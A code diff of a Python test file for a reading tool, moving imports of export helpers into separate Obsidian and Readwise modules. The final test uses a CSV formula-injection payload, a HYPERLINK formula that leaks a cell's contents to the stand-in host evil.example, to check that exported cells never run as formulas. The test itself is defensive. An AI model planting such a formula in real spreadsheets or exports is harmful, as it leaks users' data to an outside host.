@@ -7,7 +7,8 @@ import io
 from pathlib import Path
 
 from reader.cli import main
-from reader.core.exports import MARKER, READWISE_COLUMNS
+from reader.core.interop.exports.obsidian import MARKER
+from reader.core.interop.exports.readwise import READWISE_COLUMNS
 
 from ..conftest import SEED
 
@@ -119,7 +120,7 @@ def _export(vault: Path, capsys) -> str:
 
 
 def _seed_note(vault: Path) -> Path:
-    from reader.core.exports import front_matter_id
+    from reader.core.interop.exports.obsidian import front_matter_id
 
     (note,) = [p for p in vault.glob("*.md") if front_matter_id(p.read_text("utf-8"))]
     return note
@@ -184,7 +185,7 @@ def test_a_note_quoting_the_marker_line_does_not_grow(tmp_path: Path, capsys) ->
 
 
 def test_file_names_fit_every_file_system(tmp_path: Path, capsys) -> None:
-    from reader.core.exports import _slug
+    from reader.core.interop.exports.obsidian import _slug
 
     bold = "\U0001d401\U0001d41e\U0001d41a\U0001d42d " * 60  # mathematical bold letters
     assert len(_slug(bold).encode("utf-8")) <= 150
@@ -205,7 +206,7 @@ def test_a_fifo_in_the_vault_does_not_hang_the_export(tmp_path: Path, capsys) ->
 
 def test_one_note_that_cannot_be_written_does_not_stop_the_others(tmp_path: Path, capsys,
                                                                   monkeypatch) -> None:
-    from reader.core import exports
+    from reader.core.interop.exports import obsidian as exports
 
     _marks(capsys)
     doc = tmp_path / "other.txt"
@@ -238,7 +239,7 @@ def test_obsidian_notes_carry_no_terminal_controls(tmp_path: Path, capsys) -> No
 
 
 def test_readwise_csv_cells_never_run_as_formulas_or_control_the_terminal(capsys) -> None:
-    from reader.core.exports import csv_cell
+    from reader.core.interop.exports.readwise import csv_cell
 
     assert main(["bookmarks", "add", str(SEED), "--sentence", "2", "--note",
                  '=HYPERLINK("http://evil.example/?leak="&A2,"x")']) == 0
